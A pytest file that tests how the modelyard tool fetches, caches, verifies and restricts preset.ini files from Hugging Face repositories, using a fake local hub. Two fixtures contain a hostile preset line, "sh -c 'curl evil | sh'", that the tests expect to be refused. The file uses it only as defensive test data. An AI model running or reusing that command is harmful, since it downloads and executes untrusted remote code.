"""A Hugging Face repository's own preset.ini (hub/presets.py), as llama-server b11434 uses it: the pure choices
as tables (what `-hf` on the router's command line means, what makes a preset repository, what a downloaded
preset may not set), and the fetch against the fake hub on loopback, where preset.ini is a small file kept in
git (no LFS): fetched into the cache by its git id, the cached copy used offline or when the hub cannot be
listed, and a repository without one refused with what to do instead. test_parity.py starts router mode and
modelyard with `-hf` on such a repository and compares what they list."""

from __future__ import annotations

import logging
import re
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from modelyard.config.options import OptionTable, parse_help
from modelyard.config.presets import ConfigError, read_preset_file
from modelyard.errors import ErrorKind
from modelyard.hub.access import Hub
from modelyard.hub.fetch import HubError, fetch, list_repo
from modelyard.hub.presets import (
    fetch_preset,
    names_hub_repo,
    remote_preset_problem,
    router_presets,
    take_preset_repo,
)
from modelyard.hub.refs import HubRef, NotInRepo, is_preset_repo, plan
from tests.conftest import free_port
from tests.fake_hub import COMMIT, FakeHub, running

HELP = Path(__file__).parent / "data" / "llama-server-b11434-help.txt"
PRESETS = "org/presets"
PRESET = "[*]\ntemp = 0.5\n\n[smol]\nhf = ggml-org/SmolLM2-135M-Instruct-GGUF:Q4_K_M\nctx-size = 2048\n"


@pytest.fixture(scope="module")
def table() -> OptionTable:
    return OptionTable(parse_help(HELP.read_text()))


# --- the choices (pure) ------------------------------------------------------------------------------------

@pytest.mark.parametrize(("paths", "expected"), [
    (["preset.ini"], True),
    (["model-Q4_K_M.gguf", "preset.ini"], True),  # llama.cpp: the preset wins over the GGUFs
    (["presets/preset.ini", "model-Q4_K_M.gguf"], False),  # only at the root
    (["README.md", "model-Q4_K_M.gguf"], False),
    ([], False),
])
def test_is_preset_repo(paths: list[str], expected: bool) -> None:
    assert is_preset_repo(paths) is expected


@pytest.mark.parametrize(("args", "expected"), [
    (("-hf", PRESETS), True),
    (("-hfr", PRESETS), True),
    (("--hf-repo", PRESETS, "-c", "2048"), True),
    (("--hf-repo=org/presets",), True),
    (("-hff", "model.gguf"), False),
    (("--hf-repo-draft", "org/draft"), False),
    (("-c", "2048"), False),
])
def test_names_hub_repo(args: tuple[str, ...], expected: bool) -> None:
    assert names_hub_repo(args) is expected


@pytest.mark.parametrize(("settings", "preset", "expected"), [
    ({"--ctx-size": "2048"}, None, (None, {"--ctx-size": "2048"})),
    ({"--hf-repo": PRESETS, "--ctx-size": "2048"}, None, (HubRef(PRESETS), {"--ctx-size": "2048"})),
    ({"--hf-repo": f"{PRESETS}:Q4_K_M"}, None, (HubRef(PRESETS), {})),  # router mode ignores the tag
    ({"--ctx-size": "2048"}, Path("models.ini"), (None, {"--ctx-size": "2048"})),
])
def test_take_preset_repo(settings: dict[str, str], preset: Path | None,
                          expected: tuple[HubRef | None, dict[str, str]]) -> None:
    assert take_preset_repo(settings, preset) == expected


@pytest.mark.parametrize(("settings", "preset", "says"), [
    ({"--hf-repo": PRESETS}, Path("models.ini"), "-hf org/presets and --models-preset models.ini both name the "
                                                 "presets: give one"),
    ({"--hf-repo": "presets"}, None, "-hf: 'presets' is not a Hugging Face model: write org/repo"),
])
def test_take_preset_repo_refuses(settings: dict[str, str], preset: Path | None, says: str) -> None:
    with pytest.raises(ConfigError, match=says):
        take_preset_repo(settings, preset)


@pytest.mark.parametrize(("text", "says"), [
    (PRESET, None),
    ("[smol]\ncmd = sh -c 'curl evil | sh'\n", r"sets `cmd` in \[smol\] \(.*preset.ini:2\)"),
    ("[*]\ncmd = run ${PORT}\n", r"sets `cmd` in \[\*\]"),
])
def test_a_downloaded_preset_may_not_choose_a_command(tmp_path: Path, table: OptionTable, text: str,
                                                      says: str | None) -> None:
    path = tmp_path / "preset.ini"
    path.write_text(text)
    problem = remote_preset_problem(read_preset_file(path, table), PRESETS)
    if says is None:
        assert problem is None
    else:
        assert problem is not None and re.search(says, problem), problem
        assert problem.startswith(f"the preset.ini of {PRESETS} sets")
        assert "pass it with --models-preset instead" in problem


def test_a_preset_repository_has_no_model_to_download() -> None:
    with pytest.raises(NotInRepo, match=r"it is a preset repository.*`modelyard serve -hf org/presets`"):
        plan(["preset.ini", "README.md"], HubRef(PRESETS))


# --- the fetch, against the fake hub -------------------------------------------------------------------------

@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FakeHub]:
    files = tmp_path_factory.mktemp("presets")
    (files / "preset.ini").write_text(PRESET)
    (files / "README.md").write_text("# not a preset repository\n")
    (files / "evil.ini").write_text("[smol]\nhf = org/x-GGUF\ncmd = sh -c 'curl evil | sh'\n")
    hub = FakeHub()
    hub.add(PRESETS, "preset.ini", files / "preset.ini", lfs=False)
    hub.add("org/evil", "preset.ini", files / "evil.ini", lfs=False)
    hub.add("org/plain-GGUF", "README.md", files / "README.md", lfs=False)
    with running(hub):
        yield hub


def test_the_preset_is_fetched_into_the_cache_by_its_git_id(served: FakeHub, tmp_path: Path,
                                                             caplog: pytest.LogCaptureFixture) -> None:
    hub = Hub(served.url, tmp_path / "hub")
    with caplog.at_level(logging.WARNING, "modelyard.hub.presets"):
        path = fetch_preset(hub, HubRef(PRESETS))
    assert path.read_text() == PRESET
    folder = tmp_path / "hub" / "models--org--presets"
    assert path == folder / "snapshots" / COMMIT / "preset.ini" and path.is_symlink()
    assert path.resolve() == folder / "blobs" / served.repos[PRESETS]["preset.ini"].git_oid  # as llama.cpp names it
    assert "only use presets you can trust" in caplog.text
    assert not served.downloads()  # a file kept in git: answered by the hub itself, no CDN


def test_the_cached_preset_is_used_offline_and_when_the_hub_is_unreachable(
        served: FakeHub, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    cache = tmp_path / "hub"
    fetched = fetch_preset(Hub(served.url, cache), HubRef(PRESETS))
    asked = len(served.requests)
    assert fetch_preset(Hub(served.url, cache, offline=True), HubRef(PRESETS)) == fetched
    assert len(served.requests) == asked  # offline: not even listed
    down = f"http://127.0.0.1:{free_port()}"
    with caplog.at_level(logging.WARNING, "modelyard.hub.presets"):
        assert fetch_preset(Hub(down, cache), HubRef(PRESETS)) == fetched
    assert f"the hub did not list {PRESETS}, so its cached preset.ini is used: cannot reach the hub" in caplog.text
    with pytest.raises(HubError, match="cannot reach the hub") as failed:
        fetch_preset(Hub(down, tmp_path / "empty"), HubRef(PRESETS))
    assert failed.value.kind == ErrorKind.HUB_UNREACHABLE
    with pytest.raises(HubError, match="offline mode is on") as offline:
        fetch_preset(Hub(served.url, tmp_path / "empty", offline=True), HubRef(PRESETS))
    assert offline.value.kind == ErrorKind.HUB_OFFLINE


def test_a_repository_without_a_preset_says_how_to_serve_it(served: FakeHub, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"org/plain-GGUF has no preset.ini at its root.*`hf-repo = "
                                          r"org/plain-GGUF`.*`modelyard pull org/plain-GGUF`"):
        fetch_preset(Hub(served.url, tmp_path / "hub"), HubRef("org/plain-GGUF"))
    with pytest.raises(HubError, match="repository org/missing was not found") as missing:
        fetch_preset(Hub(served.url, tmp_path / "hub"), HubRef("org/missing"))
    assert missing.value.kind == ErrorKind.HUB_NOT_FOUND


def test_a_git_file_with_the_wrong_content_is_refused(served: FakeHub, tmp_path: Path) -> None:
    """A small file is checked against its git id as a model is against its sha256."""
    hub = Hub(served.url, tmp_path / "hub")
    listing = list_repo(hub, PRESETS)
    original = served.repos[PRESETS]["preset.ini"]
    served.repos[PRESETS]["preset.ini"] = replace(original, git_oid="f" * 40)
    try:
        with pytest.raises(HubError, match=r"hash is .* the hub lists f{40}"):
            fetch(hub, listing.file("preset.ini"), lambda done, total: None, threading.Event())
    finally:
        served.repos[PRESETS]["preset.ini"] = original
    assert not list((tmp_path / "hub" / "models--org--presets").rglob("preset.ini"))


def test_router_presets_serves_the_repository_without_its_flag(served: FakeHub, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch,
                                                               table: OptionTable) -> None:
    monkeypatch.setenv("HF_ENDPOINT", served.url)
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hub"))
    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    preset, rest = router_presets({"--hf-repo": PRESETS, "--ctx-size": "1024"}, None, table)
    assert preset is not None and preset.read_text() == PRESET and rest == {"--ctx-size": "1024"}
    assert router_presets({"--ctx-size": "1024"}, None, table) == (None, {"--ctx-size": "1024"})
    with pytest.raises(ConfigError, match=r"the preset.ini of org/evil sets `cmd` in \[smol\]"):
        router_presets({"--hf-repo": "org/evil"}, None, table)
